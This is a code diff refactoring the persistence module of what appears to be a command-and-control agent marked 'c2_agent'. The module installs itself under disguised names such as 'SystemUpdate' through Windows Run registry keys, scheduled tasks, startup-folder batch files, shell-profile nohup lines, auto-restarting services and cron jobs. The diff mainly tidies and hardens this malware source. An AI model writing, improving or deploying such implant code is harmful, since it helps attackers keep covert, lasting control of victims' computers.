@@ -1,12 +1,26 @@
 # agent/modules/persistence.py
+import io
 import os
+import re
 import sys
+import csv
 import platform
 import subprocess
 import shutil
 import tempfile
 from typing import Dict, Any, List, Optional
 
+_IS_WINDOWS = platform.system() == 'Windows'
+
+# The interpreter and agent script do not change while the agent runs
+_PY_EXE = sys.executable
+# Embedded interpreters may leave sys.argv missing or empty; importing
+# the module must not fail there
+_SCRIPT = os.path.abspath(sys.argv[0]) if getattr(sys, 'argv', None) and sys.argv[0] else ''
+
+# Case-insensitive marker match without lowercasing each candidate
+_MARKER_RE = re.compile(r'c2_agent', re.I)
+
 
 class Persistence:
     """Persistence mechanisms module"""
@@ -43,7 +57,7 @@ class Persistence:
         
         if method == 'auto':
             # Try multiple methods
-            if platform.system() == 'Windows':
+            if _IS_WINDOWS:
                 methods = ['registry', 'scheduled', 'startup']
             else:
                 methods = ['cron', 'service', 'startup']
@@ -103,7 +117,7 @@ class Persistence:
         removed = []
         
         # Check all common persistence locations
-        if platform.system() == 'Windows':
+        if _IS_WINDOWS:
             # Registry
             try:
                 import winreg
@@ -114,22 +128,27 @@ class Persistence:
                 
                 for hkey, subkey in keys:
                     try:
-                        key = winreg.OpenKey(hkey, subkey, 0, winreg.KEY_ALL_ACCESS)
-                        i = 0
-                        while True:
-                            try:
-                                name, value, _ = winreg.EnumValue(key, i)
-                                if sys.executable in value or 'c2_agent' in name.lower():
+                        key = winreg.OpenKey(hkey, subkey, 0, winreg.KEY_READ | winreg.KEY_WRITE)
+                        try:
+                            # Enumerate first; deleting while enumerating renumbers the values
+                            values = []
+                            i = 0
+                            while True:
+                                try:
+                                    values.append(winreg.EnumValue(key, i)[:2])
+                                    i += 1
+                                except WindowsError:
+                                    break
+                            
+                            for name, value in values:
+                                if _PY_EXE in str(value) or _MARKER_RE.search(name):
                                     winreg.DeleteValue(key, name)
                                     removed.append({
                                         'type': 'registry',
                                         'location': f"{hkey}\\{subkey}\\{name}"
                                     })
-                                else:
-                                    i += 1
-                            except WindowsError:
-                                break
-                        winreg.CloseKey(key)
+                        finally:
+                            winreg.CloseKey(key)
                     except:
                         pass
             except ImportError:
@@ -138,9 +157,9 @@ class Persistence:
             # Scheduled tasks
             try:
                 output = subprocess.check_output(['schtasks', '/query', '/fo', 'csv'], text=True)
-                for line in output.split('\n'):
-                    if 'c2_agent' in line.lower():
-                        task_name = line.split(',')[0].strip('"')
+                for row in csv.reader(io.StringIO(output)):
+                    if row and _MARKER_RE.search(row[0]):
+                        task_name = row[0]
                         subprocess.run(['schtasks', '/delete', '/tn', task_name, '/f'])
                         removed.append({
                             'type': 'scheduled_task',
@@ -155,7 +174,7 @@ class Persistence:
                 crontab = subprocess.check_output(['crontab', '-l'], text=True)
                 new_cron = []
                 for line in crontab.split('\n'):
-                    if 'c2_agent' not in line and sys.executable not in line:
+                    if 'c2_agent' not in line and _PY_EXE not in line:
                         new_cron.append(line)
                     else:
                         removed.append({
@@ -175,19 +194,20 @@ class Persistence:
             
             # Systemd services
             try:
-                services = subprocess.check_output(['systemctl', 'list-units', '--type=service'], text=True)
-                for line in services.split('\n'):
-                    if 'c2_agent' in line:
-                        service_name = line.split()[0]
-                        subprocess.run(['systemctl', 'stop', service_name])
-                        subprocess.run(['systemctl', 'disable', service_name])
-                        service_file = f'/etc/systemd/system/{service_name}'
-                        if os.path.exists(service_file):
-                            os.remove(service_file)
-                        removed.append({
-                            'type': 'service',
-                            'name': service_name
-                        })
+                cmd = ['systemctl', 'list-units', '--type=service', '--no-legend', '--plain', '--no-pager']
+                with subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True) as proc:
+                    for line in proc.stdout:
+                        if 'c2_agent' in line:
+                            service_name = line.split()[0]
+                            subprocess.run(['systemctl', 'stop', service_name])
+                            subprocess.run(['systemctl', 'disable', service_name])
+                            service_file = f'/etc/systemd/system/{service_name}'
+                            if os.path.exists(service_file):
+                                os.remove(service_file)
+                            removed.append({
+                                'type': 'service',
+                                'name': service_name
+                            })
             except:
                 pass
         
@@ -197,7 +217,7 @@ class Persistence:
         """List current persistence mechanisms"""
         persistence = []
         
-        if platform.system() == 'Windows':
+        if _IS_WINDOWS:
             # Check registry
             try:
                 import winreg
@@ -230,19 +250,15 @@ class Persistence:
             
             # Check scheduled tasks
             try:
-                output = subprocess.check_output(['schtasks', '/query', '/v', '/fo', 'csv'], text=True)
-                lines = output.split('\n')
-                if lines:
-                    headers = lines[0].split(',')
-                    for line in lines[1:]:
-                        if line.strip():
-                            values = line.split(',')
-                            if len(values) >= 2:
-                                persistence.append({
-                                    'type': 'scheduled_task',
-                                    'name': values[0].strip('"'),
-                                    'next_run': values[1].strip('"') if len(values) > 1 else 'N/A'
-                                })
+                # Columns without /v: TaskName, Next Run Time, Status
+                output = subprocess.check_output(['schtasks', '/query', '/fo', 'csv', '/nh'], text=True)
+                for row in csv.reader(io.StringIO(output)):
+                    if row and row[0]:
+                        persistence.append({
+                            'type': 'scheduled_task',
+                            'name': row[0],
+                            'next_run': row[1] if len(row) > 1 and row[1] else 'N/A'
+                        })
             except:
                 pass
                 
@@ -261,9 +277,9 @@ class Persistence:
             
             # Check systemd services
             try:
-                output = subprocess.check_output(['systemctl', 'list-unit-files', '--type=service'], text=True)
-                for line in output.split('\n'):
-                    if line.strip():
+                cmd = ['systemctl', 'list-unit-files', '--type=service', '--state=enabled', '--no-legend', '--no-pager']
+                with subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True) as proc:
+                    for line in proc.stdout:
                         parts = line.split()
                         if len(parts) >= 2:
                             persistence.append({
@@ -280,7 +296,7 @@ class Persistence:
         """Add to startup folder"""
         name = params.get('name', 'SystemUpdate')
         
-        if platform.system() == 'Windows':
+        if _IS_WINDOWS:
             # Windows startup folder
             import getpass
             startup_dir = os.path.join(
@@ -296,7 +312,7 @@ class Persistence:
             batch_file = os.path.join(startup_dir, f'{name}.bat')
             with open(batch_file, 'w') as f:
                 f.write(f'@echo off\n')
-                f.write(f'start /B "{sys.executable}" "{os.path.abspath(sys.argv[0])}"\n')
+                f.write(f'start /B "{_PY_EXE}" "{_SCRIPT}"\n')
             
             return {
                 'method': 'startup_folder',
@@ -317,7 +333,7 @@ class Persistence:
             # Add to profile
             with open(profile, 'a') as f:
                 f.write(f'\n# {name}\n')
-                f.write(f'nohup "{sys.executable}" "{os.path.abspath(sys.argv[0])}" >/dev/null 2>&1 &\n')
+                f.write(f'nohup "{_PY_EXE}" "{_SCRIPT}" >/dev/null 2>&1 &\n')
             
             return {
                 'method': 'shell_profile',
@@ -329,13 +345,13 @@ class Persistence:
         name = params.get('name', 'system-update')
         description = params.get('description', 'System Update Service')
         
-        if platform.system() == 'Windows':
+        if _IS_WINDOWS:
             # Windows service
             try:
                 # Create service using sc command
                 cmd = [
                     'sc', 'create', name,
-                    'binPath=', f'"{sys.executable}" "{os.path.abspath(sys.argv[0])}"',
+                    'binPath=', f'"{_PY_EXE}" "{_SCRIPT}"',
                     'start=', 'auto',
                     'DisplayName=', description
                 ]
@@ -360,7 +376,7 @@ After=network.target
 
 [Service]
 Type=simple
-ExecStart={sys.executable} {os.path.abspath(sys.argv[0])}
+ExecStart={_PY_EXE} {_SCRIPT}
 Restart=always
 RestartSec=30
 
@@ -395,13 +411,13 @@ WantedBy=multi-user.target
         name = params.get('name', 'SystemUpdate')
         interval = params.get('interval', 60)  # minutes
         
-        if platform.system() == 'Windows':
+        if _IS_WINDOWS:
             # Windows Task Scheduler
             try:
                 cmd = [
                     'schtasks', '/create',
                     '/tn', name,
-                    '/tr', f'"{sys.executable}" "{os.path.abspath(sys.argv[0])}"',
+                    '/tr', f'"{_PY_EXE}" "{_SCRIPT}"',
                     '/sc', 'minute',
                     '/mo', str(interval),
                     '/f'  # Force
@@ -423,7 +439,7 @@ WantedBy=multi-user.target
     
     def add_registry_key(self, params: Dict[str, Any]) -> Dict[str, Any]:
         """Add Windows registry key for persistence"""
-        if platform.system() != 'Windows':
+        if not _IS_WINDOWS:
             raise Exception("Registry persistence is Windows-only")
         
         try:
@@ -447,7 +463,7 @@ WantedBy=multi-user.target
             key = winreg.OpenKey(key_hive, subkey, 0, winreg.KEY_WRITE)
             
             # Set value
-            value = f'"{sys.executable}" "{os.path.abspath(sys.argv[0])}"'
+            value = f'"{_PY_EXE}" "{_SCRIPT}"'
             winreg.SetValueEx(key, name, 0, winreg.REG_SZ, value)
             
             winreg.CloseKey(key)
@@ -465,7 +481,7 @@ WantedBy=multi-user.target
     
     def add_cron_job(self, params: Dict[str, Any]) -> Dict[str, Any]:
         """Add cron job for persistence"""
-        if platform.system() == 'Windows':
+        if _IS_WINDOWS:
             raise Exception("Cron is not available on Windows")
         
         interval = params.get('interval', 60)  # minutes
@@ -477,7 +493,7 @@ WantedBy=multi-user.target
             hours = interval // 60
             schedule = f"0 */{hours} * * *"
         
-        command = f'{sys.executable} {os.path.abspath(sys.argv[0])}'
+        command = f'{_PY_EXE} {_SCRIPT}'
         cron_entry = f"{schedule} {command} >/dev/null 2>&1"
         
         try: